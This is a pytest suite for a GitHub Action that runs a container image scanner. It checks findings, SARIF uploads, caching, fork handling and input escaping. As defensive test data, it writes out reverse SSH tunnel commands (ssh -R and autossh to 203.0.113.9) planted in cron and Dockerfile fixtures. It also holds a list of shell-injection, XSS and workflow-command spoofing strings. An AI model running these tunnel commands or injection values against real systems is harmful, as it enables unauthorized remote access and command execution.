"""The whole Action: action.yml's steps in order, on real images, with what GitHub would hand to it."""

import html
import io
import shutil
import zipfile
from pathlib import Path
from typing import Any

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from fixtures.image import Step, archive
from fixtures.tarball import Member
from scanner.model import Limits
from tests.action.composite import CLEAN, Ran, Runner, machine, pull_request

UPLOAD, ARTIFACT = "Upload to code scanning", "Keep the reports"
RESTORE, SAVE = "Fetch the evidence of known layers", "Keep the evidence of new layers"

CRON = "* * * * * root /usr/bin/" + "ssh -fN -R 0.0.0.0:2222:127.0.0.1:22 u@203.0.113.9"
TUNNEL = Member("etc/cron.d/a", f"{CRON}\n".encode())


@pytest.fixture(scope="module")
def clean(replay: tuple[Runner, Ran]) -> Ran:
    runner, _ = replay
    return runner.run(input="clean.tar")


@pytest.fixture
def runner(replay: tuple[Runner, Ran], clean: Ran, sandscan: Path, tmp_path: Path) -> Runner:
    """A machine of its own, with the evidence of the replay's layers in its cache."""
    one = machine(tmp_path, sandscan)
    kept = Path(one.given["install"]["cache-folder"])
    kept.mkdir(mode=0o700)
    shutil.copy(replay[0].temporary / "sandscan" / "cache" / "layers.sqlite", kept)
    return one


def results(log: dict) -> list[dict]:
    [run] = log["runs"]
    return run["results"]


def test_the_replay_fails_the_job_and_everything_says_why(replay: tuple[Runner, Ran]):
    _, ran = replay

    assert ran.failed
    assert ran.answers["exit-code"] == "1", ran.log
    [report] = ran.reports()
    assert ran.answers["findings"] == str(len(report["findings"]))
    assert {"miner/binary", "tunnel/reverse-ssh", "ssh/authorized-key", "egress/engine"} <= {
        one["rule_id"] for one in report["findings"]
    }
    assert "(tunnel/reverse-ssh)" in ran.log
    assert "tunnel/reverse-ssh" in ran.summary
    assert any(one.properties.get("file") == "compose.yaml" for one in ran.commands if one.name == "error")
    assert len(ran.said("error")) <= 10
    [log] = ran.sarif()
    assert len(results(log)) == len(report["findings"])


def test_the_steps_come_in_the_order_that_an_upload_needs(replay: tuple[Runner, Ran]):
    _, ran = replay

    assert list(ran.used) == [RESTORE, UPLOAD, ARTIFACT, SAVE]
    assert [one.name for one in Path(ran.used[UPLOAD]["sarif_file"]).iterdir()] == ["archive-replay.tar.sarif"]
    artifact = {one.name for one in Path(ran.used[ARTIFACT]["path"]).iterdir()}
    assert artifact == {f"archive-replay.tar.{end}" for end in ("json", "md", "html")} | {"sarif"}


def test_the_action_and_the_terminal_give_the_same_findings_and_fingerprints(
    replay: tuple[Runner, Ran], terminal: dict[str, Any]
):
    _, ran = replay

    [log], [report] = ran.sarif(), ran.reports()
    assert len(results(log)) > 10
    assert results(log) == results(terminal["sarif"])
    assert log["runs"][0]["automationDetails"] == terminal["sarif"]["runs"][0]["automationDetails"]
    assert report["findings"] == terminal["json"]["findings"]


def test_a_clean_image_stays_green_and_uploads_an_empty_log(clean: Ran):
    assert not clean.failed
    assert (clean.answers["exit-code"], clean.answers["findings"]) == ("0", "0")
    assert results(clean.sarif()[0]) == []
    assert UPLOAD in clean.used
    assert clean.commands == []


def test_a_threshold_decides_about_the_job_and_nothing_else(runner: Runner):
    ran = runner.run(input="replay.tar", fail_on="never", severity="high")

    assert not ran.failed
    assert ran.answers["exit-code"] == "0"
    kept = ran.reports()[0]["findings"]
    assert {"critical", "high"} <= {one["severity"] for one in kept}
    less = [one["rule_id"] for one in kept if one["severity"] not in {"critical", "high"}]
    assert all(rule.startswith("miner/") for rule in less), "a confirmed miner is never left out"
    assert len(ran.said("error")) > 1


def test_what_is_not_there_is_wrong_usage_and_closes_no_alert(runner: Runner):
    ran = runner.run(image="archive:gone.tar")

    assert ran.failed
    assert (ran.answers["exit-code"], ran.answers["sarif"], ran.answers["json"]) == ("2", "", "")
    assert UPLOAD not in ran.used
    assert ARTIFACT not in ran.used
    [error] = ran.said("error")
    assert error.startswith("archive:gone.tar was not scanned (exit code 2): sandscan: ")
    assert "gone.tar" in ran.summary


def test_an_incomplete_scan_is_told_and_kept_and_not_uploaded(runner: Runner):
    inner = b"x"
    for _ in range(Limits().archive_depth + 2):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archived:
            archived.writestr("inner.zip", inner)
        inner = packed.getvalue()
    deep = Step("COPY deep.zip /", (Member("srv/deep.zip", inner),))
    (runner.workspace / "deep.tar").write_bytes(archive((deep,), {}, "team/deep:1"))

    ran = runner.run(input="deep.tar")

    assert ran.failed
    assert (ran.answers["exit-code"], ran.answers["sarif"]) == ("3", "")
    assert UPLOAD not in ran.used
    assert ran.reports()[0]["complete"] is False
    assert ARTIFACT in ran.used
    assert not list(Path(ran.used[ARTIFACT]["path"]).rglob("*.sarif"))
    assert any("INCOMPLETE" in one for one in ran.said("warning"))
    assert any("was not read to its end" in one for one in ran.said("notice"))
    assert "INCOMPLETE" in ran.summary


def test_one_broken_target_does_not_hide_the_others_nor_change_their_categories(runner: Runner):
    ran = runner.run(image="archive:clean.tar\narchive:gone.tar\narchive:replay.tar\n", category="nightly")

    assert ran.answers["exit-code"] == "2"
    assert len(ran.reports()) == 2
    assert ran.summary.count("# sandscan: ") == 3
    assert [log["runs"][0]["automationDetails"]["id"] for log in ran.sarif()] == [
        "nightly/library/team/clean/",
        "nightly/library/sandscan/rome-replay/",
    ]


@pytest.mark.parametrize(
    ("name", "event"),
    [("pull_request", pull_request("stranger/app")), ("pull_request_target", pull_request("stranger/app"))],
)
def test_a_forks_pull_request_is_told_everything_but_uploads_nothing(runner: Runner, name: str, event: dict):
    runner.event_name, runner.event = name, event
    (runner.workspace / "new.tar").write_bytes(archive((Step("COPY cron /", (TUNNEL,)),), {}, "team/new:1"))
    ran = runner.run(input="new.tar")

    assert UPLOAD not in ran.used
    assert ran.failed
    assert ran.answers["exit-code"] == "1"
    assert ran.said("error")
    assert "tunnel/" in ran.summary
    assert ARTIFACT in ran.used
    assert any("the step summary and the artifact" in one for one in ran.said("notice"))
    assert (SAVE in ran.used) is (name == "pull_request"), "what runs as the default branch fills no cache for it"


def test_a_refused_upload_turns_nothing_red_and_nothing_green(runner: Runner):
    runner.refuses = frozenset({UPLOAD, ARTIFACT, SAVE, RESTORE})

    clean, found = runner.run(input="clean.tar"), runner.run(input="replay.tar")

    assert (clean.failed, found.failed) == (False, True)
    for ran in (clean, found):
        assert any("Code scanning did not take the SARIF" in one for one in ran.said("notice"))


def test_a_category_of_ones_own_has_no_tag(runner: Runner):
    [log] = runner.run(input="clean.tar", category="nightly").sarif()
    assert log["runs"][0]["automationDetails"]["id"] == "nightly/"


def test_two_images_of_one_category_would_close_each_others_alerts(runner: Runner):
    (runner.workspace / "other.tar").write_bytes(archive((CLEAN,), {}, "team/clean:2"))
    ran = runner.run(input="clean.tar\nother.tar")

    assert ran.failed
    assert (ran.answers["exit-code"], ran.answers["sarif"]) == ("2", "")
    assert UPLOAD not in ran.used
    assert any("both have the category" in one for one in ran.said("error"))


def test_evidence_is_stored_only_where_there_is_something_new(runner: Runner):
    shutil.rmtree(runner.given["install"]["cache-folder"])
    first = runner.run(input="clean.tar")
    again = runner.run(input="clean.tar")
    without = runner.run(input="clean.tar", cache="false")

    assert first.used[SAVE]["path"] == first.used[RESTORE]["path"] == str(runner.temporary / "sandscan" / "cache")
    assert first.used[SAVE]["key"].startswith(first.used[RESTORE]["restore-keys"])
    assert SAVE not in again.used
    assert again.reports()[0]["findings"] == first.reports()[0]["findings"]
    assert RESTORE not in without.used
    assert SAVE not in without.used


def test_a_launch_alone_is_judged(runner: Runner):
    ran = runner.run(launch="compose.yaml")

    assert ran.answers["exit-code"] == "1"
    assert {one["rule_id"].partition("/")[0] for one in ran.reports()[0]["findings"]} == {"egress"}


def test_a_finding_in_the_image_points_to_the_dockerfiles_line(runner: Runner):
    (runner.workspace / "Dockerfile").write_text(
        f"FROM scratch\n\nCOPY readme.txt /srv/\nRUN echo '{CRON}' >/etc/cron.d/a\n"
    )
    made = f"RUN /bin/sh -c echo '{CRON}' >/etc/cron.d/a # buildkit"
    steps = (Step("COPY readme.txt /srv/ # buildkit", (Member("srv/readme.txt", b"x"),)), Step(made, (TUNNEL,)))
    (runner.workspace / "app.tar").write_bytes(archive(steps, {}, "team/app:1"))

    ran = runner.run(input="app.tar", dockerfile="Dockerfile")

    [found] = [one for one in ran.commands if one.name == "error"]
    assert (found.properties["file"], found.properties["line"]) == ("Dockerfile", "4")
    assert "Where: etc/cron.d/a, line 1" in found.data
    [result] = results(ran.sarif()[0])
    place = result["locations"][0]["physicalLocation"]
    assert (place["artifactLocation"]["uri"], place["region"]["startLine"]) == ("Dockerfile", 4)


def test_the_repository_is_checked_without_an_image(runner: Runner):
    (runner.workspace / "Dockerfile").write_text(
        "FROM scratch\nRUN " + "autossh -M 0 -fN -R 2222:127.0.0.1:22 u@203.0.113.9\n"
    )
    ran = runner.run(paths="Dockerfile")

    assert ran.answers["exit-code"] == "1"
    [found, *_] = [one for one in ran.commands if one.name == "error"]
    assert (found.properties["file"], found.properties["line"]) == ("Dockerfile", "2")


def test_the_configuration_is_followed_and_another_can_be_named(runner: Runner):
    (runner.workspace / ".sandscan.yaml").write_text("fail-on: never\n")
    (runner.workspace / "strict.yaml").write_text("fail-on: low\n")

    assert runner.run(launch="compose.yaml").answers["exit-code"] == "0"
    assert runner.run(launch="compose.yaml", config="strict.yaml").answers["exit-code"] == "1"
    assert runner.run(launch="compose.yaml", config="gone.yaml").answers["exit-code"] == "2"


@pytest.mark.parametrize(
    ("inputs", "says"),
    [
        ({}, "nothing is named: give image, input, launch or paths"),
        ({"input": "clean.tar", "output": "../.."}, "neither in the workspace nor in RUNNER_TEMP"),
        ({"input": "clean.tar", "output": "/etc"}, "neither in the workspace nor in RUNNER_TEMP"),
        ({"input": "clean.tar", "output": "."}, "neither in the workspace nor in RUNNER_TEMP"),
        ({"input": "clean.tar", "output": "link/out"}, "neither in the workspace nor in RUNNER_TEMP"),
    ],
)
def test_a_wrong_input_is_said_and_nothing_is_scanned(runner: Runner, inputs: dict[str, str], says: str):
    (runner.workspace / "link").symlink_to("/var")
    ran = runner.run(**inputs)

    assert ran.failed
    assert ran.answers["exit-code"] == "2"
    [error] = ran.said("error")
    assert says in error
    assert UPLOAD not in ran.used


def test_reports_go_where_they_are_wanted_and_are_never_mixed(runner: Runner):
    ran = runner.run(input="clean.tar", output="out/reports")
    assert ran.answers["json"] == str(runner.workspace / "out" / "reports" / "archive-clean.tar.json")

    again = runner.run(input="clean.tar", output="out/reports")
    assert again.answers["exit-code"] == "2"
    assert "is not empty" in again.said("error")[0]


HOSTILE = (
    "$(touch was-here)",
    '"; touch was-here; "',
    "--output=json=was-here",
    "${{ github.token }}",
    "::add-mask::sandscan",
    "##[add-mask]sandscan",
    "exit-code<<E",
    "`` ` ``` <script>alert(1)</script> | @everyone",
)


def test_no_input_is_more_than_a_name(runner: Runner):
    ran = runner.run(image="\n".join(HOSTILE), baseline="::add-mask::sandscan")

    assert not (runner.workspace / "was-here").exists()
    assert ran.failed
    assert (ran.answers["exit-code"], ran.answers["sarif"]) == ("2", "")
    assert len(ran.said("error")) == len(HOSTILE)
    assert {one.name for one in ran.commands} == {"error"}
    page = cmarkgfm.github_flavored_markdown_to_html(ran.summary, Options.CMARK_OPT_UNSAFE)
    assert "<script" not in page
    for text in HOSTILE:
        assert html.escape(text, quote=False).replace('"', "&quot;") in page


def test_no_word_of_an_image_is_a_command_to_the_runner(runner: Runner):
    words = "::add-mask::sandscan ::stop-commands::x ::set-output name=exit-code::0 ##[set-env name=PATH]/tmp"
    lines = "\n".join(words.split(" "))
    cron = f"{CRON} {words}\n"
    steps = (
        Step(f"RUN echo {lines}", (Member("etc/cron.d/a", cron.encode()),)),
        Step(
            f"COPY {words} /",
            (Member(f"srv/{lines}".replace("/", "_"), cron.encode()), Member("etc/cron.d/::debug::x", cron.encode())),
        ),
    )
    config = {
        "Env": [f"A={lines}"],
        "Entrypoint": ["/bin/sh", "-c", f"ssh -N -R 1:h:22 u@203.0.113.9 {lines}"],
        "Labels": {lines: lines},
    }
    (runner.workspace / "hostile.tar").write_bytes(archive(steps, config, "team/hostile:1"))

    ran = runner.run(input="hostile.tar")

    assert ran.answers["exit-code"] == "1"
    assert "::add-mask::" in ran.log, "the image's words are quoted in the log"
    assert {one.name for one in ran.commands} <= {"error", "warning", "notice"}
    assert all("sandscan" in one.properties["title"] for one in ran.commands)


def test_a_file_of_the_workspace_is_never_taken_for_a_module(tmp_path: Path):
    runner = machine(tmp_path)
    for name in ("json", "venv", "ensurepip", "workflow", "click", "scanner", "sitecustomize", "encodings"):
        (runner.workspace / f"{name}.py").write_text("raise SystemExit('taken from the workspace')\n")
    runner.environment = {"PYTHONPATH": str(runner.workspace), "PYTHONHOME": str(runner.workspace)}
    ran = runner.run(input="clean.tar")

    assert not ran.failed, ran.log
    assert "taken from the workspace" not in ran.log


def test_a_step_that_dies_is_never_clean(runner: Runner):
    (runner.temporary / "sandscan" / "venv" / "bin" / "sandscan").unlink()
    ran = runner.run(input="clean.tar")

    assert ran.failed
    assert ran.answers["exit-code"] == "3"
    assert UPLOAD not in ran.used


def test_a_killed_scan_is_never_clean(runner: Runner):
    program = runner.temporary / "sandscan" / "venv" / "bin" / "sandscan"
    program.unlink()
    program.write_text("#!/bin/sh\nkill -9 $$\n")
    program.chmod(0o755)
    ran = runner.run(input="clean.tar")

    assert ran.failed
    assert ran.answers["exit-code"] == "3"
    assert UPLOAD not in ran.used
    assert ran.said("error")


def test_another_system_is_refused(runner: Runner):
    runner.environment = {"RUNNER_OS": "Windows"}
    runner.given = {}
    ran = runner.run(input="clean.tar")

    assert ran.failed
    assert ran.answers["exit-code"] == "3"
    assert "runs on Linux" in ran.said("error")[0]
